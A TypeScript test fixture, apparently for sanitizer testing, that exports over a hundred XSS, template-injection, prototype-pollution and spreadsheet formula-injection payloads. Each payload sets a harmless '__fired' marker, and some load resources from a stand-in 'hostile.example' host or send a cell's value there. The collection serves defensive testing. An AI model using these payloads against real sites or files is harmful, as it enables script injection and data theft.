/** What runs the script of a page that lets it: each sets `__fired`. After the cheat sheets of OWASP and PortSwigger. */
const RUN = '__fired=1';

const EVENTS = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onpointerenter', 'ontoggle', 'onbegin'],
  ...['onanimationstart', 'ontransitionend', 'onwheel', 'onscroll', 'onpaste', 'oncopy', 'onstart', 'onfinish'],
  ...[
    'oncanplay',
    'onloadstart',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
    'onscrollend',
    'onsecuritypolicyviolation',
  ],
];
const ELEMENTS = [
  ...['img', 'svg', 'video', 'audio', 'body', 'iframe', 'input autofocus', 'details open', 'marquee', 'object'],
  ...['embed', 'select autofocus', 'textarea autofocus', 'keygen', 'math', 'style', 'link rel=stylesheet'],
];
const LINKS = [
  'javascript:__fired=1',
  'JaVaScRiPt:__fired=1',
  'java\tscript:__fired=1',
  'data:text/html,<script>__fired=1</script>',
];
const FORMULAS = [
  `=cmd|'/C calc'!A0;__fired`,
  '=HYPERLINK("http://hostile.example/?"&A1;"__fired")',
  '+1+1+__fired',
  '-2+3+__fired',
  '@SUM(1+1)*__fired',
  `'=__fired`,
];

/** At least a hundred, all different. */
export const PAYLOADS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><svg/onload=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=http://hostile.example/__fired.js></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<base href=//hostile.example/__fired/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=http://hostile.example/__fired.css>`,
  `<style>@import 'http://hostile.example/__fired.css'</style>`,
  `<p style="background:url(http://hostile.example/__fired)">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$eval.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[${RUN}]]`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `-->]]><script>${RUN}</script>`,
  `*/${RUN}/*`,
  `';${RUN};//`,
  `";${RUN};//`,
  `__proto__[x]=${RUN}`,
  `{"__proto__":{"x":"${RUN}"}}`,
  ...FORMULAS,
  ...LINKS.map((link) => `<a href="${link}">${RUN}</a>`),
  ...LINKS.map((link) => `[${RUN}](${link})`),
  ...EVENTS.map((event) => `<img src=x ${event}=${RUN}>`).slice(1),
  ...ELEMENTS.map((element) => `<${element} src=x onerror=${RUN} onload=${RUN} onfocus=${RUN}>`),
];
